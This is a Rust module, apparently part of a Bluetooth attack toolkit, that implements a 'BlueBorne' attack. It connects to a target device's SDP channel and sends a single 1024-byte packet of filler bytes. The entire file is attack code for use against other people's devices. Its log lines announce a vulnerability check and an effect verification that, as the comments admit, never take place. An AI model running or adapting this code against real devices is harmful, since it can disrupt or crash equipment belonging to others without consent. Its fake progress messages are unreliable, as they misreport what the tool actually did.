//! BlueBorne - 畸形 SDP 请求
//!
//! 向目标的 SDP PSM 发送一个固定内容的 1024 字节包。
//! 漏洞检查和效果验证两步目前只汇报进度，不做实际探测。
//! 整个发送过程不可中断。

use super::{AttackContext, AttackOutcome, AttackPhase};
use crate::address::BdAddr;
use crate::error::Result;
use crate::host::ChannelKind;

pub const SDP_PSM: u16 = 1;
pub const MALFORMED_PACKET_LEN: usize = 1024;
const FILL_BYTE: u8 = b'A';

pub(super) async fn run(ctx: &AttackContext<'_>, target: &str) -> Result<AttackOutcome> {
    ctx.begin();
    ctx.info("Starting BlueBorne attack");

    ctx.enter(AttackPhase::Resolving);
    let address = BdAddr::parse(target).inspect_err(|_| {
        ctx.error("Invalid Bluetooth address");
    })?;

    ctx.info("Checking BlueBorne vulnerability...");
    ctx.info("Attempting SDP exploitation...");

    ctx.enter(AttackPhase::Connecting);
    let mut link = ctx
        .transport()
        .connect(ChannelKind::Packet, address, SDP_PSM)
        .await
        .inspect_err(|e| {
            ctx.error(&format!("Unable to connect to SDP: {e}"));
        })?;

    ctx.enter(AttackPhase::Transmitting);
    let malformed = [FILL_BYTE; MALFORMED_PACKET_LEN];
    let written = match ctx.transport().send(&mut *link, &malformed).await {
        Ok(written) => written,
        Err(e) => {
            drop(link);
            ctx.error(&format!("Failed to send malformed SDP packet: {e}"));
            return Err(e);
        }
    };

    ctx.info("Malformed SDP packet sent");
    drop(link);

    ctx.enter(AttackPhase::Completing);
    ctx.info("Verifying attack effect...");
    ctx.info("BlueBorne attack finished");

    Ok(AttackOutcome {
        packets_sent: 1,
        bytes_sent: written as u64,
        cancelled: false,
        send_failed: false,
    })
}
